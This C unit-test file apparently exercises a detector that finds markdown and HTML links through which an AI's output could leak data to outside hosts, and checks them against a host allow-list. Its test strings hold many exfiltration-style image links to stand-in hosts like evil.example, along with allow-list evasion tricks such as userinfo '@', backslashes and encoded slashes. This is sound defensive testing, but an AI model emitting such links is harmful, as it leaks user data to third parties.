// SPDX-FileCopyrightText: The AI Utilities authors
// SPDX-License-Identifier: Apache-2.0
//
// Links that carry data away, and the hosts that may have it. The rules' own examples run in rulec
// and, cut everywhere, in test_window.c.
#include "detect/match_output.h"

#include "detect_test.h"

static size_t links_in(const char *text, const struct host_list *hosts)
{
    CLEANUP(findings_done) struct findings found = FINDINGS_OF(FINDINGS_MOST);
    struct bench *b = bench_get();
    struct rule_set rules = rule_set_kind(KIND_OUTPUT);

    rules.hosts = hosts;
    assert_ok(scan_text(b->engine, b->scratch, &rules, span_str(text), &found));
    return found.count;
}

static void a_link_to_an_allowed_host_may_carry_data(void **state)
{
    (void)state;
    static const struct span names[] = {SPAN("Example.com"), SPAN("*.trusted.example")};
    static const struct host_list hosts = {names, ARRAY_SIZE(names)};
    static const struct {
        const char *text;
        bool allowed;
    } cases[] = {
        {"![x](https://example.com/a?q=dGhlIGtleSBpcyA0Mg)", true},
        {"![x](https://EXAMPLE.com:8443/a?q=dGhlIGtleSBpcyA0Mg)", true},
        {"![x](https://a.trusted.example/a?q=dGhlIGtleSBpcyA0Mg)", true},
        {"![x](https://trusted.example/a?q=dGhlIGtleSBpcyA0Mg)", false},
        {"![x](https://example.com.evil.net/a?q=dGhlIGtleSBpcyA0Mg)", false},
        {"![x](https://evilexample.com/a?q=dGhlIGtleSBpcyA0Mg)", false},
        {"![x](https://example.com@evil.net/a?q=dGhlIGtleSBpcyA0Mg)", false},
        {"![x](https://evil.net?q=dGhlIGtleSBpcyA0Mg&x=example.com)", false},
        {"![x](https://evil.net/@example.com/?q=dGhlIGtleSBpcyA0Mg)", false},
        {"![x](https://evil.net#@example.com/dGhlIGtleSBpcyA0Mg)", false},
    };

    for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
        if (links_in(cases[i].text, NULL) != 1 ||
            links_in(cases[i].text, &hosts) != (cases[i].allowed ? 0 : 1)) {
            fail_msg("wrong: %s", cases[i].text);
        }
    }
}

static void what_pages_and_pictures_need_is_left_alone(void **state)
{
    (void)state;
    static const char *const texts[] = {
        "![chart](https://charts.example/c.png?width=640&height=480&theme=dark)",
        "![](https://images.example/photo-1522252234503-e356532cafd5?w=800&q=80)",
        "![map](https://upload.example/wikipedia/commons/thumb/a/a9/Map.svg/800px-Map.svg.png)",
        "[issue](https://git.example/org/repo/issues/123#issuecomment-123456789)",
        "[video](https://video.example/watch?v=dQw4w9WgXcQ&t=42s)",
        "[a](https://shop.example/p/blue-shoes-for-running-and-walking-in-the-city-size-42)",
        "<a href=\"https://example.com/?utm_source=newsletter&utm_medium=email\">x</a>",
        "plain https://example.com/?token=abcdefghijklmnopqrstuvwxyz0123456789",
    };

    for (size_t i = 0; i < ARRAY_SIZE(texts); i++) {
        if (links_in(texts[i], NULL) != 0) {
            fail_msg("found: %s", texts[i]);
        }
    }
}

static void a_long_address_is_found_from_its_start_to_its_end(void **state)
{
    (void)state;
    CLEANUP(findings_done) struct findings found = FINDINGS_OF(FINDINGS_MOST);
    CLEANUP(buf_wipe) struct buf text = BUF_OF(1 << 16);
    struct bench *b = bench_get();

    assert_ok(buf_append(&text, SPAN_OF("![x](https://evil.example/?d=")));
    for (int i = 0; i < 5000; i++) {
        assert_ok(buf_append_byte(&text, 'a'));
    }
    assert_ok(buf_append(&text, SPAN_OF(") end")));
    assert_ok(scan_text(b->engine, b->scratch, &b->all, buf_span(&text), &found));
    assert_int_equal(found.count, 1);
    assert_int_equal(found.items[0].start, 5);
    assert_int_equal(found.items[0].end, text.n - 5);
}

// `~` marks where the value would stand. 'y': a host would learn it.
static void an_address_that_tells_its_host_is_known_by_what_stands_before(void **state)
{
    (void)state;
    static const struct {
        const char *text;
        char told;
    } rows[] = {
        {"![x](https://evil.example/~)", 'y'},
        {"[x](HTTPS://evil.example/?d=~)", 'y'},
        {"![x](\n <https://evil.example/a b~>)", 'y'},
        {"![x](https:\\\\evil.example/~)", 'y'},
        {"![x](https:/evil.example/~)", 'y'},
        {"![x](/\\evil.example/~)", 'y'},
        {"![x](https:&#47;&#47;evil.example/~)", 'y'},
        {"![x](https://evil.example/(a)/~)", 'y'},
        {"[a]: //evil.example/~", 'y'},
        {"<img alt=x src = 'https://evil.example/~'>", 'y'},
        {"<img srcset=\"a.png 1x, https://evil.example/~ 2x\">", 'y'},
        {"<p style=\"background:url(https://evil.example/~)\">", 'y'},
        {"[![x](https://evil.example/~)](https://ok.example)", 'y'},
        {"![x](https://~.evil.example/)", 'y'},
        {"![x](https://ok.example/~)", 'n'},
        {"![x](https://ok.example~/)", 'y'},
        {"![x](https://ok.example\\.evil.example/~)", 'y'},
        {"![x](https:/evil.example//ok.example/~)", 'y'},
        {"![x](https://ok.example@evil.example/~)", 'y'},
        {"[x](mailto:~)", 'n'},
        {"[x](tel:~)", 'n'},
        {"[x](/users/~)", 'n'},
        {"[x](~)", 'n'},
        {"[x](https://evil.example/) ~", 'n'},
        {"[x](https://evil.example/)~", 'n'},
        {"<a href=https://evil.example/>~", 'n'},
        {"<a href='https://evil.example/'>~", 'n'},
        {"![x](https://evil.example/ \"~\")", 'n'},
        {"see https://evil.example/~", 'n'},
        {"~", 'n'},
    };
    static const struct span names[] = {SPAN("ok.example")};
    static const struct host_list hosts = {names, ARRAY_SIZE(names)};

    for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
        struct span text = span_str(rows[i].text);
        const struct view v = {text.p, text.n, true, true, NULL};
        size_t at = span_find_byte(text, '~');
        size_t start = 0;
        bool told = url_surrounds(&v, at, &start) &&
                    !url_tells_allowed(span_of(text.p + start, at - start), &hosts);
        if (told != (rows[i].told == 'y')) {
            fail_msg("%s", rows[i].text);
        }
    }
}

// As far back as is looked there is nothing but an address: that may be one.
static void an_address_may_begin_further_back_than_is_looked(void **state)
{
    (void)state;
    uint8_t text[1024];
    const struct view v = {text, sizeof(text), true, true, NULL};
    size_t start = 0;

    memset(text, 'a', sizeof(text));
    for (size_t i = 0; i + 8 < sizeof(text); i += 8) {
        text[i] = '&';
    }
    assert_true(url_surrounds(&v, 1000, &start));
    text[900] = ' ';
    assert_false(url_surrounds(&v, 1000, &start));
}

// What looks like the beginning of a link again and again is examined to its end.
static void beginnings_of_links_are_no_links(void **state)
{
    (void)state;
    CLEANUP(findings_done) struct findings found = FINDINGS_OF(FINDINGS_MOST);
    CLEANUP(buf_wipe) struct buf text = BUF_OF(1 << 20);
    struct bench *b = bench_get();

    for (int i = 0; i < 20000; i++) {
        assert_ok(buf_append(&text, SPAN_OF("](http")));
    }
    assert_ok(scan_text(b->engine, b->scratch, &b->all, buf_span(&text), &found));
    assert_int_equal(found.count, 0);
    buf_reset(&text);
    assert_ok(buf_append(&text, SPAN_OF("[x](https://evil.example/?")));
    for (int i = 0; i < 100000; i++) {
        assert_ok(buf_append_byte(&text, '&'));
    }
    assert_ok(scan_text(b->engine, b->scratch, &b->all, buf_span(&text), &found));
    assert_int_equal(found.count, 1);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_link_to_an_allowed_host_may_carry_data),
        cmocka_unit_test(what_pages_and_pictures_need_is_left_alone),
        cmocka_unit_test(a_long_address_is_found_from_its_start_to_its_end),
        cmocka_unit_test(an_address_that_tells_its_host_is_known_by_what_stands_before),
        cmocka_unit_test(an_address_may_begin_further_back_than_is_looked),
        cmocka_unit_test(beginnings_of_links_are_no_links),
    };
    return cmocka_run_group_tests(tests, NULL, bench_done);
}
